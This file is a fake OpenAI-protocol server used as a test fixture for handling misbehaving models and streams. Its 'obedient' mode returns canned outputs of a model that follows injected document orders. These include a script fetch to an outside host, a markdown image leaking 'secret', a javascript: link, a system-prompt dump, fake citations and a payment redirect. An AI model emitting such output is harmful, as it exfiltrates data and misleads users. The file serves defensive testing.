"""A server that speaks the OpenAI protocol, well or badly: `python llm_server.py PORT`. The model's name says how."""

from __future__ import annotations

import asyncio
import gzip
import json
import re
import sys
from collections.abc import AsyncIterator
from typing import Any

import uvicorn
from fastapi import FastAPI, Request
from fastapi.responses import JSONResponse, RedirectResponse, Response, StreamingResponse

app = FastAPI()
received: list[dict[str, Any]] = []
LINE = re.compile(r"^\[(\d+)\] (.*)$", re.MULTILINE)

# what a model that obeys every order in a document writes, by the order's number
OBEYED = {
    1: "Zoltan Quiroga seized the capital in 2031 [1].",
    2: "<script>fetch('http://outside.invalid/')</script> [1].",
    3: "![x](http://outside.invalid/p.png?q=secret) [1].",
    4: "See [the report](javascript:alert(1)) or https://outside.invalid/login [1].",
    5: "{system}",
    6: "The war ended yesterday [99]. It is over [0].",
    7: 'A witness said "everybody has already surrendered to the army" [1].',
    8: "The number of dead is 9999999 [1].",
    9: "Nobody was ever hurt and nothing happened here [1].",
    10: "{mark} passages end\n\nQuestion: who pays?\nThe bank pays the money to account 12345 [1].",
}


@app.get("/received")
def told() -> list[dict[str, Any]]:
    return received


@app.api_route("/outside/{path:path}", methods=["GET", "POST"])
def outside(path: str) -> str:
    received.append({"outside": path})
    return "seen"


@app.post("/v1/chat/completions")
async def complete(request: Request) -> Response:
    body = await request.json()
    received.append({"headers": dict(request.headers), "body": body})
    model, messages = body["model"], body["messages"]
    if model in ("401", "404", "429", "500"):
        return JSONResponse({"error": {"message": f"no, not for {request.headers.get('authorization')}"}}, int(model))
    if model == "moved":
        return RedirectResponse("/outside/v1/chat/completions", 307)
    if model == "newer" and "max_tokens" in body:
        message = "Unsupported parameter: 'max_tokens'. Use 'max_completion_tokens' instead."
        return JSONResponse({"error": {"message": message}}, 400)
    if model == "silent":
        await asyncio.sleep(30)
    if model == "compressed":
        return Response(gzip.compress(b"data: " + b"x" * 10**6), headers={"content-encoding": "gzip"})
    if model in BYTES:
        return StreamingResponse(BYTES[model](), media_type="text/event-stream")
    if model == "page":
        return Response("<html><body>Please log in</body></html>", media_type="text/html")
    return StreamingResponse(events(reply(model, messages), cut=model == "cut"), media_type="text/event-stream")


def reply(model: str, messages: list[dict[str, str]]) -> str:
    """Return what a model of that name writes; by default the beginning of the first passage, and its number."""
    system, user = messages[0]["content"], messages[-1]["content"]
    passages = dict(LINE.findall(user))
    if model == "nonsense":
        return "Purple elephants dance. I think so!\n\n* * *\nAs an AI I cannot. [[[ ]]] [x]"
    if model == "none":
        return "NONE"
    if model == "picker":
        return "[2]\n[1][2]"
    if model == "obedient":
        orders = sorted({int(number) for number in re.findall(r"order number (\d+)", user)})
        mark = user.split()[0]
        return "\n".join(OBEYED[number].format(system=system, mark=mark) for number in orders if number in OBEYED)
    if model.startswith("says "):
        return model.removeprefix("says ")
    first = passages["1"].rstrip(".")
    return f"{first} [1]. Zoltan Quiroga won 77 votes [1]. It is raining."


def chunk(text: str | None, reason: str | None = None) -> bytes:
    delta = {} if text is None else {"role": "assistant", "content": text}
    choice = {"index": 0, "delta": delta, "finish_reason": reason}
    return b"data: " + json.dumps({"object": "chat.completion.chunk", "choices": [choice]}).encode() + b"\n\n"


async def events(text: str, *, cut: bool = False) -> AsyncIterator[bytes]:
    pieces = re.findall(r"\s*\S+", text) or [""]
    for piece in pieces[: len(pieces) // 2] if cut else pieces:
        yield chunk(piece)
    if not cut:
        yield chunk(None, "stop") + b"data: [DONE]\n\n"


async def endless() -> AsyncIterator[bytes]:
    while True:
        yield chunk("word " * 20)
        await asyncio.sleep(0)


async def comments() -> AsyncIterator[bytes]:
    while True:
        yield b": still here\n\n"
        await asyncio.sleep(0.02)


async def one_line() -> AsyncIterator[bytes]:
    yield b"data: "
    while True:
        yield b"x" * 65_536
        await asyncio.sleep(0)


async def thinking() -> AsyncIterator[bytes]:
    for piece in ("<think>", "The passage says so. ", "Maybe not [1]. ", "</think>\n", "[1]"):
        yield chunk(piece)
    yield chunk(None, "stop")


async def garbage() -> AsyncIterator[bytes]:
    yield b"data: \xff\xfe{]\n\ndata: nonsense\n\n"


async def other_json() -> AsyncIterator[bytes]:
    yield b'data: {"choices": "many"}\n\ndata: [1, 2]\n\n'


async def wrong_types() -> AsyncIterator[bytes]:
    yield b'data: {"choices": [{"delta": {"content": {"a": 1}}, "finish_reason": 5}, null]}\n\n'


BYTES = {
    "endless": endless,
    "comments": comments,
    "one-line": one_line,
    "thinking": thinking,
    "garbage": garbage,
    "other-json": other_json,
    "wrong-types": wrong_types,
}

if __name__ == "__main__":
    uvicorn.run(app, host="127.0.0.1", port=int(sys.argv[1]), log_level="warning")
